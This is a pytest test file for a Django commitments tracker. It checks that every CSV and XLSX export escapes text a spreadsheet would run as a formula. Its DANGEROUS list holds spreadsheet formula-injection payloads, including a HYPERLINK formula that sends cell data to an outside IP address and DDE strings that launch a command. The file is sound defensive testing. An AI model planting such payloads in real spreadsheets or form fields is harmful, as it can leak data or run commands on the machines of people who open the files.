"""Every CSV and XLSX the tracker writes keeps text that a spreadsheet would run as a formula as text,
whoever typed it: the register's exports, export_commitments, the reporting template, the report."""

import csv
import io
from io import StringIO

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from commitments import cells, spreadsheets
from commitments.models import ActionLine
from commitments.progress_report import xlsx
from commitments.progress_report.build import build_report

from .conftest import line, make_organisation, own

pytestmark = pytest.mark.django_db

PLAN = "poa-2026-2030"
# Each start a spreadsheet reads as a formula, as typed by someone editing a text in the admin.
DANGEROUS = ['=HYPERLINK("http://198.51.100.7/?"&A1,"Details")', "+1+cmd|'/c calc'!A0", "-2+3",
             "@SUM(1+1)*cmd|'/c calc'!A0", "\t=1+1", "\r=1+1"]  # fmt: skip
CODES = ["2.8.1", "2.8.2", "2.8.3", "2.8.4", "2.8.5", "2.8.6"]


@pytest.fixture
def hostile(db):
    """Six lines whose English text is each dangerous start, owned by a body whose acronym is one too."""
    body = make_organisation(acronym="=1+1", name_en="@body")
    for code, text in zip(CODES, DANGEROUS, strict=True):
        ActionLine.objects.filter(plan__code=PLAN, code=code).update(text_en=text)
        own(line(PLAN, code), body)
    return body


def assert_no_formula(workbook_bytes: bytes) -> list:
    """Every cell of every sheet, after checking that none is a formula."""
    book = load_workbook(io.BytesIO(workbook_bytes))
    every = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in every if cell.data_type == "f"] == []
    return every


def assert_kept_as_text(workbook_bytes: bytes, texts: list[str]) -> None:
    every = assert_no_formula(workbook_bytes)
    for text in texts:
        found = [cell for cell in every if cell.value == text]
        assert found, text
        assert all(cell.data_type == "s" and cell.quotePrefix for cell in found), text


def test_the_register_csv_export_puts_an_apostrophe_before_each_dangerous_text(client, reader, hostile):
    client.force_login(reader)
    response = client.get(reverse("commitments:register-export", args=["csv"]) + "?q=2.8")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    texts = {row["Code"]: row["Text (English)"] for row in rows}
    assert [texts[code] for code in CODES] == [f"'{text}" for text in DANGEROUS]
    assert {row["Owners"] for row in rows if row["Code"] in CODES} == {"'=1+1 (Lead)"}
    assert not [value for row in rows for value in row.values() if value.startswith(cells.FORMULA_STARTS)]


def test_the_register_xlsx_export_keeps_each_dangerous_text_as_text(client, reader, hostile):
    client.force_login(reader)
    response = client.get(reverse("commitments:register-export", args=["xlsx"]) + "?q=2.8")
    assert_kept_as_text(response.content, [*DANGEROUS, "=1+1 (Lead)"])


def test_export_commitments_csv_puts_an_apostrophe_before_each_dangerous_text(hostile):
    output = StringIO()
    call_command("export_commitments", "--plan", PLAN, "--format", "csv", stdout=output, stderr=StringIO())
    rows = {row["code"]: row for row in csv.DictReader(StringIO(output.getvalue().removeprefix("\ufeff")))}
    assert [rows[code]["text_en"] for code in CODES] == [f"'{text}" for text in DANGEROUS]


def test_the_reporting_template_keeps_each_dangerous_text_and_acronym_as_text(hostile, period):
    assert_kept_as_text(spreadsheets.reporting_template(period), [*DANGEROUS, "=1+1"])


def test_the_report_workbook_keeps_each_dangerous_line_text_and_body_name_as_text(hostile, period):
    content = build_report(period.plan, period, "en")
    assert_kept_as_text(xlsx.render(content), [*DANGEROUS, "@body"])


def test_numbers_stay_numbers_and_only_text_is_marked():
    book = Workbook()
    book.active.append([-5, 1.5, "-5", "plain", "=1+1"])
    cells.keep_as_text(book)
    number, decimal, negative_text, plain, formula = book.active[1]
    assert (number.value, number.data_type, number.quotePrefix) == (-5, "n", False)
    assert decimal.data_type == "n" and not plain.quotePrefix
    assert negative_text.quotePrefix and (formula.data_type, formula.quotePrefix) == ("s", True)
    assert [cells.csv_value(value) for value in (-5, "-5", "plain", None)] == [-5, "'-5", "plain", None]
